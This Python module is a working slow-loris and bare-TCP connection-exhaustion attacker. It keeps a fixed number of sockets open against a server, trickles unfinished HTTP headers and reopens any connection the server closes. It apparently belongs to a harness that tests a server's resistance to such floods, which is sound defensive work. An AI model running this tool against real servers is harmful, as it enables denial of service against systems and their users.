"""The attacker: N sockets held open against the server, half slow-loris, half bare TCP.

A slow-loris socket sends a request line and one header, then a further header line every
`TRICKLE_EVERY_S` seconds and never the blank line that ends the headers. A bare socket sends
nothing. Whenever the server closes one, another is opened in its place, so the server faces N
at every moment (as far as this process can reopen them): that is the attack, not N once.
"""

from __future__ import annotations

import asyncio
import contextlib
import time
from dataclasses import dataclass, field

PARTIAL_REQUEST = b"GET /v1/health HTTP/1.1\r\nHost: attacker\r\n"
TRICKLE_EVERY_S = 5.0
OPEN_AT_ONCE = 200
"""Connections being opened at the same time while the pool grows."""


@dataclass
class PoolCounts:
    open: int = 0
    opened: int = 0
    closed_by_server: int = 0
    connect_failures: int = 0
    held_samples: list[int] = field(default_factory=list)


class _Attacker(asyncio.Protocol):
    def __init__(self, pool: AttackerPool, slow: bool) -> None:
        self.pool = pool
        self.slow = slow
        self.transport: asyncio.Transport | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        assert isinstance(transport, asyncio.Transport)
        self.transport = transport
        self.pool.counts.open += 1
        self.pool.counts.opened += 1
        self.pool.live.add(self)
        if self.pool.counts.open >= self.pool.target:
            self.pool.full.set()
        if self.slow:
            transport.write(PARTIAL_REQUEST)

    def data_received(self, data: bytes) -> None:
        """The server's 408 or 503; the close follows."""

    def connection_lost(self, exc: Exception | None) -> None:
        self.pool.counts.open -= 1
        self.pool.live.discard(self)
        if not self.pool.stopping:
            self.pool.counts.closed_by_server += 1
            self.pool.replace(self.slow)


class AttackerPool:
    """Holds `target` attacker sockets open against host:port, reopening what the server closes."""

    def __init__(self, host: str, port: int) -> None:
        self.host = host
        self.port = port
        self.target = 0
        self.counts = PoolCounts()
        self.live: set[_Attacker] = set()
        self.stopping = False
        self.full = asyncio.Event()
        """Set when `target` sockets are open."""
        self._pending = 0
        self._gate = asyncio.Semaphore(OPEN_AT_ONCE)
        self._tasks: set[asyncio.Task[None]] = set()
        self._trickler: asyncio.Task[None] | None = None

    async def grow_to(self, target: int, *, within_s: float) -> float:
        """Open sockets until `target` are open (or `within_s` passes); the seconds it took."""
        self.target = target
        started = time.monotonic()
        if self._trickler is None:
            self._trickler = asyncio.create_task(self._trickle())
        while self.counts.open + self._pending < target:
            self._spawn(slow=(self.counts.opened + self._pending) % 2 == 1)
            await asyncio.sleep(0)
        self.full.clear()
        if self.counts.open < target:
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(within_s):
                    await self.full.wait()
        return time.monotonic() - started

    def replace(self, slow: bool) -> None:
        if self.counts.open + self._pending < self.target:
            self._spawn(slow)

    def sample(self) -> None:
        self.counts.held_samples.append(self.counts.open)

    async def close(self) -> None:
        self.stopping = True
        if self._trickler is not None:
            self._trickler.cancel()
        for task in list(self._tasks):
            task.cancel()
        for attacker in list(self.live):
            if attacker.transport is not None:
                attacker.transport.abort()
        await asyncio.sleep(0.1)

    def _spawn(self, slow: bool) -> None:
        self._pending += 1
        task = asyncio.create_task(self._open(slow))
        self._tasks.add(task)
        task.add_done_callback(self._tasks.discard)

    async def _open(self, slow: bool) -> None:
        loop = asyncio.get_running_loop()
        try:
            async with self._gate:
                try:
                    async with asyncio.timeout(10):
                        await loop.create_connection(lambda: _Attacker(self, slow), self.host, self.port)
                except (OSError, TimeoutError):
                    self.counts.connect_failures += 1
                    await asyncio.sleep(0.2)
                    self._pending -= 1
                    self.replace(slow)
                    return
        except asyncio.CancelledError:
            raise
        self._pending -= 1

    async def _trickle(self) -> None:
        n = 0
        while True:
            await asyncio.sleep(TRICKLE_EVERY_S)
            n += 1
            line = f"X-Trickle-{n}: a\r\n".encode()
            for attacker in list(self.live):
                if attacker.slow and attacker.transport is not None:
                    with contextlib.suppress(Exception):
                        attacker.transport.write(line)
